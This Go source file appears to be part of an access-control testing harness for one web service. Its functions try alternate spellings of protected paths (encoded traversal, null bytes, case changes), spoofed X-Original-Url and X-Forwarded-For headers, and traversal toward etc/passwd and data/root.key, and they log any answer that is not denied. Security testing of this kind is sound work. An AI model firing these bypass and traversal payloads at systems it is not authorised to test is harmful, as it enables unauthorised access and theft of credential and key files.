package attack

import (
	"context"
	"net/http"
	"net/url"
	"strings"
)

// The fourth family: what a door refuses it refuses however it is spelled.

func (a *assault) paths(ctx context.Context) {
	var all []visit
	for _, d := range a.doors {
		if d.Sort == "public" {
			continue
		}
		who := 0
		for _, i := range a.file.Identities {
			if len(i.rightful(d)) == 0 && who < 1 || len(i.rightful(d)) > 0 && d.named() && who < 2 {
				all = append(all, visit{d, i})
				who++
			}
		}
		all = append(all, visit{d, nobody})
	}
	inParallel(ctx, all, func(v visit) { a.respell(ctx, v) })
	if !a.narrow {
		a.climb(ctx)
	}
}

func (a *assault) respell(ctx context.Context, v visit) {
	id, own := "", absentID(v.door.prefixOf())
	if v.door.named() {
		foreign := a.foreign(v.door, v.who)
		if len(foreign) == 0 {
			return
		}
		id = foreign[0]
		if mine := v.who.rightful(v.door); len(mine) > 0 {
			own = mine[0]
		}
	} else if len(v.who.rightful(v.door)) > 0 {
		return
	}
	for _, s := range a.spellings(v.door, own, id) {
		t := a.ask("paths", v.door, v.who, id)
		t.path = s.path
		for name, values := range s.header {
			t.header = set(t.header, name, values[0])
		}
		if s.method != "" {
			t.method = s.method
		}
		got, err := a.send(ctx, t)
		for hop := 0; err == nil && got.respells() && hop < 3; hop++ {
			to, bad := url.Parse(got.header.Get("Location"))
			if bad != nil {
				break
			}
			t.path = to.RequestURI()
			got, err = a.send(ctx, t)
		}
		if err == nil && s.mine && (t.door.Verb == "log" && !got.sounds() || a.asPlain(ctx, t, got)) {
			continue // it is about their own, spelled with more than that
		}
		if err == nil && !got.denied() && !got.respells() {
			a.leak(t, got, "another spelling of the door opens it")
		}
	}
}

// asPlain reports whether the answer is what the path gives without what was
// added to it.
func (a *assault) asPlain(ctx context.Context, t try, got answer) bool {
	t.path, _, _ = strings.Cut(t.path, "?")
	t.header = nil
	plain, err := a.send(ctx, t)
	return err == nil && got.status == plain.status && still(got.body) == still(plain.body)
}

type spelling struct {
	path   string
	header http.Header
	method string
	mine   bool // an answer about what is theirs is fine
}

// spellings are ways to write the path of a door so that one part of a house
// may read it otherwise than another.
func (a *assault) spellings(d Door, own, foreign string) []spelling {
	path := a.at(d, foreign)
	all := []spelling{
		{path: "/" + path}, {path: "/." + path}, {path: "/x/.." + path}, {path: "/%2e%2e" + path}, {path: path + "/"}, {path: path + "/."},
		{path: path + "%00"}, {path: path + "%20"}, {path: path + ";a=b"}, {path: path + ".json"}, {path: path + "%2f"}, {path: path + "?"},
		{path: strings.ToUpper(path)}, {path: strings.Replace(path, "/", "%2f", 2)}, {path: "/health/.." + path}, {path: "/in/..%2f.." + path},
		{path: "/a/" + a.hash + "/.." + path}, {path: "/a/" + a.hash + "/..%2f..%2f" + strings.TrimPrefix(path, "/")},
		{path: strings.ReplaceAll(path, "/", `\`)}, {path: strings.ReplaceAll(path, "/", "//")}, {path: "/%25" + path[1:]},
		{path: "/", header: http.Header{"X-Original-Url": {path}, "X-Rewrite-Url": {path}}, mine: true},
		{path: path, header: http.Header{"X-Http-Method-Override": {d.method()}, "X-Forwarded-For": {"127.0.0.1"}}},
		{path: path, header: http.Header{"X-Forwarded-Host": {"localhost"}, "X-Forwarded-Proto": {"https"}, "Forwarded": {"for=127.0.0.1;proto=https"}}},
	}
	if letters := encodeLetters(path); letters != path {
		all = append(all, spelling{path: letters})
	}
	if d.named() {
		all = append(all,
			spelling{path: a.at(d, own+"/../"+foreign)}, spelling{path: a.at(d, own+"%2f..%2f"+foreign)}, spelling{path: a.at(d, foreign+"%2f"+own)},
			spelling{path: a.at(d, own+","+foreign)}, spelling{path: a.at(d, strings.ToUpper(foreign))}, spelling{path: a.at(d, foreign+"%0a")},
			spelling{path: a.at(d, "%20"+foreign)}, spelling{path: a.at(d, strings.Replace(foreign, "_", "%5f", 1))})
		if d.method() == "GET" {
			all = append(all, spelling{path: a.at(d, own) + "?" + d.Param + "=" + foreign + "&id=" + foreign, mine: true})
		}
	}
	return all
}

// encodeLetters writes the first letter after each slash by its number.
func encodeLetters(path string) string {
	var out strings.Builder
	for i := 0; i < len(path); i++ {
		c := path[i]
		if i > 0 && path[i-1] == '/' && c >= 'a' && c <= 'z' {
			out.WriteString(strings.ToLower("%" + string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15])))
			continue
		}
		out.WriteByte(c)
	}
	return out.String()
}

// climb tries to leave the folder of the styles.
func (a *assault) climb(ctx context.Context) {
	for _, up := range []string{"../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "%252e%252e%252f", "..%c0%af"} {
		for _, file := range []string{"etc/passwd", "server.log", "data/root.key", "layout.html", "../pages/layout.html"} {
			t := try{family: "paths", who: nobody, method: "GET", path: "/a/" + a.hash + "/" + strings.Repeat(up, 5) + file}
			if got, err := a.send(ctx, t); err == nil && !got.denied() && !got.respells() {
				a.leak(t, got, "the folder of the styles can be left")
			}
		}
	}
}
